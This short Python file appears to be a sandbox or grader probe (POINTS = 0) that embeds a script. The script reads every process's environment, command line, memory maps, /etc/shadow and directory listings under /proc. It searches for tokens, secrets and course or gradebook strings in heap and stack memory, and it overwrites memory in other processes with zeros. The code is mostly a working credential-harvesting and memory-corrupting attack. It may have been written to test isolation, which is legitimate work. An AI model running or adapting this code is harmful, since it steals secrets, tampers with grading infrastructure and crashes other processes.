"""Reads environment, command line, memory and files of every process in /proc, and writes into its parent's memory."""

POINTS = 0
BEFORE = r'''
import os, re
found = []
for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["self", "thread-self"]:
    for name in ("environ", "cmdline", "maps", "mountinfo", "cwd/.", "root/etc/shadow", "root/root", "stack", "status"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                text = file.read(1_000_000).decode(errors="replace")
            found.append(f"{pid} {name} " + " ".join(re.findall(r"\S*(?:token|secret|course|gradebook)\S*", text)))
        except OSError:
            pass
    for name in ("cwd", "root", "fd"):
        try:
            found.append(f"{pid} {name} {os.listdir(f'/proc/{pid}/{name}')[:50]}")
        except OSError:
            pass
    try:
        areas = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if "[heap]" in line or "[stack]" in line]
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            for start, end in areas:
                memory.seek(int(start, 16))
                block = memory.read(min(int(end, 16) - int(start, 16), 200_000_000))
                found += [str(hit) for hit in set(re.findall(rb"token-[0-9a-z_-]+|course_secret[ -~]{0,80}", block))][:50]
            if pid not in ("self", "thread-self") and int(pid) != os.getpid():
                memory.seek(int(areas[0][0], 16))
                memory.write(b"\0" * 4096)
    except (OSError, IndexError, ValueError, OverflowError):
        pass
print("\n".join(found)[:90_000])
'''
